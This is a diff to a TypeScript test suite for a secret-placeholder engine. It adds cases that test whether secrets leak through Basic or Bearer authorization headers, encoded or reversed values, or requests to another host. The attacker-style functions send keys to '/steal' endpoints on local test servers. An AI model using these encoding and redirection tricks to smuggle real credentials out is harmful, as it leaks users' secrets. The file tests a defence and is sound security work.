@@ -60,7 +60,9 @@ const ATTACKER = (a: number, b: number) => `
       path: () => send(A + '/steal/' + key),
       pathEncoded: () => send(A + '/steal/' + key.replace(/c/g, '%63')),
       headerName: () => send(A + '/steal', { headers: { ['x-' + key]: '1' } }),
-      headerBasic: () => send(A + '/steal', { headers: { authorization: 'Basic ' + btoa('user:' + key) } }),
+      headerBasic: () => send(A + '/basic', { headers: { authorization: 'Basic ' + btoa('user:' + key) } }),
+      headerBasicOtherHost: () => send(B + '/steal', { headers: { authorization: 'basic ' + btoa(key + ':x') } }),
+      headerBearerBase64: () => send(A + '/steal', { headers: { authorization: 'Bearer ' + btoa(key) } }),
       headerReversed: () => send(A + '/steal', { headers: { 'x-key': rev(key) } }),
       queryName: () => send(A + '/steal?' + key + '=1'),
       queryEncoded: () => send(A + '/steal?k=' + key.replace(/c/g, '%63')),
@@ -160,7 +162,8 @@ describe('a placeholder where it may not go is refused before anything is sent',
     ['path', () => 'the URL path', () => `http://127.0.0.1:${own.port}/steal/[ctx.secret:vendor]`],
     ['pathEncoded', () => 'the URL path', () => `http://127.0.0.1:${own.port}/steal/`],
     ['headerName', () => 'the name of a header', () => `http://127.0.0.1:${own.port}/steal`],
-    ['headerBasic', () => 'the "authorization" header in a form other than as-is (encoded, reversed or from another run)', () => `http://127.0.0.1:${own.port}/steal`],
+    ['headerBasicOtherHost', () => `the "authorization" header of a request to 127.0.0.1:${other.port}, which is not one of its hosts`, () => `http://127.0.0.1:${other.port}/steal`],
+    ['headerBearerBase64', () => 'the "authorization" header in a form other than as-is (encoded, reversed or from another run)', () => `http://127.0.0.1:${own.port}/steal`],
     ['headerReversed', () => 'the "x-key" header in a form other than as-is (encoded, reversed or from another run)', () => `http://127.0.0.1:${own.port}/steal`],
     ['queryName', () => 'a query parameter name', () => `http://127.0.0.1:${own.port}/steal?[ctx.secret:vendor]=1`],
     ['queryEncoded', () => 'a query parameter value in a form other than as-is (encoded, reversed or from another run)', () => `http://127.0.0.1:${own.port}/steal?k=`],
@@ -247,6 +250,15 @@ describe('harmless by construction', () => {
     const seen = own.seen.filter((r) => r.url === '/split').at(-1)!;
     expect(`${seen.headers['x-one']}${seen.headers['x-two']}`).toMatch(new RegExp(`^${PLACEHOLDER.source}$`));
     expectNoSecret(everything(seen), 'the split request');
+  });
+
+  it('in a Basic header (user:placeholder, base64) the vendor receives Basic base64(user:key), as Twilio and Mailgun expect', async () => {
+    const result = await run('headerBasic');
+    expect(result, JSON.stringify(result)).toMatchObject({ ok: true, value: { status: 200 } });
+    const basic = `Basic ${b64(`user:${SECRET}`)}`;
+    expect(own.seen.filter((r) => r.url === '/basic').at(-1)!.headers.authorization).toBe(basic);
+    engine.runs.flush();
+    for (const { path, bytes } of filesUnder(engine.dataDir)) expect(bytes.toString('latin1').includes(b64(`user:${SECRET}`)), `${path} holds the Basic credentials`).toBe(false);
   });
 
   it('concatenated or JSON-quoted, each placeholder as-is becomes the key, only towards its own host', async () => {
